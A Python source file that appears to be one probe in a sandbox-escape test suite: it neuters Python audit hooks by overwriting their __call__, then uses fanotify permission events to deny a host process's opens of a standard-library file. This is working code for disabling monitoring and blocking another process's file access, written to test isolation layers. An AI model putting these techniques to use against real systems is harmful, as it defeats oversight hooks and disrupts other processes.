# Blocks the host's file opens: a fanotify permission mark (FAN_OPEN_PERM) on a file of the
# standard library the call may read (`watched`, e.g. this.py, which nothing imports),
# answering FAN_DENY to every open by another process for `seconds`, so that the host's open()
# fails with EPERM. (A mark on a whole file system would block the whole machine; one file
# proves the point.)
# Escaped: it denied at least one open by another process (the host counts its refused opens).
def fanotify_perm_block(seconds=1.5, watched="this.py", **_):
    import os, struct, time
    def unhook():  # the audit hook is a Python object: its class's __call__ becomes a no-op
        import gc
        gc.unfreeze()
        for obj in gc.get_objects():
            if "Audit" in type(obj).__name__ and callable(obj):
                try:
                    type(obj).__call__ = lambda self, *args: None
                except (TypeError, AttributeError):
                    pass

    unhook()
    try:
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
    except Exception as exc:  # the audit hook held, or there is no ctypes
        return {"escaped": False, "detail": f"no ctypes: {exc!r}"}
    libc.syscall.restype = ctypes.c_long

    def sys_call(nr, *args):  # (result, errno)
        ctypes.set_errno(0)
        res = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
        return res, (ctypes.get_errno() if res < 0 else 0)
    libc.fanotify_init.argtypes = [ctypes.c_uint, ctypes.c_uint]
    libc.fanotify_mark.argtypes = [ctypes.c_int, ctypes.c_uint, ctypes.c_uint64, ctypes.c_int, ctypes.c_char_p]
    fd = libc.fanotify_init(0x4 | 0x2 | 0x1, os.O_RDONLY)  # FAN_CLASS_CONTENT | FAN_NONBLOCK | FAN_CLOEXEC
    if fd < 0:
        return {"escaped": False, "detail": f"fanotify_init(FAN_CLASS_CONTENT) refused: {os.strerror(ctypes.get_errno())}"}
    target = os.path.join(os.path.dirname(os.__file__), os.path.basename(watched))
    if libc.fanotify_mark(fd, 0x1, 0x10000, -100, target.encode()) < 0:  # FAN_MARK_ADD, FAN_OPEN_PERM
        err = ctypes.get_errno()
        os.close(fd)
        return {"escaped": False, "detail": f"fanotify_mark(FAN_OPEN_PERM, {target}) refused: {os.strerror(err)}"}
    own, denied, allowed = os.getpid(), 0, 0
    end = time.monotonic() + seconds
    try:
        while time.monotonic() < end:
            try:
                buf = os.read(fd, 4096)
            except BlockingIOError:
                time.sleep(0.005)
                continue
            off = 0
            while off + 24 <= len(buf):
                event_len, _v, _r, _m, _mask, efd, pid = struct.unpack_from("=IBBHQii", buf, off)
                if event_len < 24:
                    break
                answer = 0x02 if pid != own else 0x01  # FAN_DENY / FAN_ALLOW
                os.write(fd, struct.pack("=iI", efd, answer))
                denied += answer == 0x02
                allowed += answer == 0x01
                if efd >= 0:
                    os.close(efd)
                off += event_len
    finally:
        os.close(fd)  # any open still waiting is allowed
    return {"escaped": denied > 0, "detail": f"denied {denied} opens of {target} by other processes ({allowed} allowed)"}


LAYERS = ("seccomp", "caps")
NEEDS_ROOT = True
